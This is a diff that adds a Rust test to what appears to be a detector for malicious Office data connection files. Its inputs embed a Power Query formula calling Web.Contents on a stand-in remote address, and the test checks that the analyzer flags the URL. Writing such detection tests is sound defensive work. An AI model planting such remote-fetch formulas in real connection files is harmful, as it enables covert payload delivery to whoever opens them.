@@ -192,3 +192,31 @@ fn long_lines_and_many() {
     let report = Analyzer::default().analyze(format!("QueryType=OLEDB\n{many}").as_bytes());
     assert_eq!(report.verdict(), Verdict::Clean);
 }
+
+/// §1.6: the queries of Power Query in a connection file.
+#[test]
+fn power_query_in_a_connection_file() {
+    let escaped = |formula: &str| {
+        format!(
+            "<html xmlns:odc=\"urn:schemas-microsoft-com:office:odc\"><head>\
+             <meta name=ProgId content=ODC.Database><xml id=msodc><odc:OfficeDataConnection>\
+             <odc:PowerQueryConnection odc:Type=\"OLEDB\"><odc:ConnectionString>\
+             Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Q</odc:ConnectionString>\
+             </odc:PowerQueryConnection><odc:PowerQueryMashupData>&lt;Mashup&gt;&lt;Items&gt;&lt;Query&gt;\
+             &lt;Formula&gt;{formula}&lt;/Formula&gt;&lt;/Query&gt;&lt;/Items&gt;&lt;/Mashup&gt;\
+             </odc:PowerQueryMashupData></odc:OfficeDataConnection></xml></head></html>"
+        )
+    };
+    for formula in [
+        "&lt;![CDATA[let Source = Web.Contents(\"http://1.2.3.4/x.dat\") in Source]]&gt;",
+        "let Source = Web.Contents(&amp;quot;http://1.2.3.4/x.dat&amp;quot;) in Source",
+    ] {
+        let page = escaped(formula);
+        let report = Analyzer::default().analyze(page.as_bytes());
+        let found = report.findings().iter().any(|found| {
+            let target = found.target.as_deref().unwrap_or_default();
+            target.contains("http://1.2.3.4/x.dat")
+        });
+        assert!(found, "{:#?}", report.findings());
+    }
+}
